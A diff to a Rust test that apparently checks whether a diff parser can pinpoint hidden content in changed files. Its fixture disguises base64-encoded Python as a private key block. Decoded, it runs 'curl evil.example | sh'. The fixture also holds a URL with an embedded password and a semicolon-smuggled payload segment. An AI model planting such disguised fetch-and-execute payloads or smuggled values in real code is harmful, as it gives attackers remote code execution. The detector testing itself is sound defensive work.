@@ -78,8 +78,8 @@ mod tests {
 
     #[test]
     fn what_is_hidden_of_a_change_is_told_by_its_file_and_line() {
-        let diff = "diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -7,2 +7,6 @@ def a():\n one\n-two\n+KEY = \"\"\"\n\
-                    +-----BEGIN PRIVATE KEY-----\n+aW1wb3J0IG9zOyBvcy5zeXN0ZW0o\n+-----END PRIVATE KEY-----\n+\"\"\"\n\
+        let diff = "diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -7,2 +7,7 @@ def a():\n one\n-two\n+KEY = \"\"\"\n\
+                    +-----BEGIN PRIVATE KEY-----\n+aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgZXZpbC5leGFtcGxlIHwgc2giKSAj\n+IFBBWUxPQURNQVJLCg==\n+-----END PRIVATE KEY-----\n+\"\"\"\n\
                     diff --git a/b.sh b/b.sh\nnew file mode 100644\n--- /dev/null\n+++ b/b.sh\n@@ -0,0 +1,2 @@\n+echo hello\n\
                     +echo https://user:hunter2;payload7;a@host/db\n";
         let names: Vec<&str> = parts(diff).iter().map(|part| part.text.lines().next().unwrap()).collect();
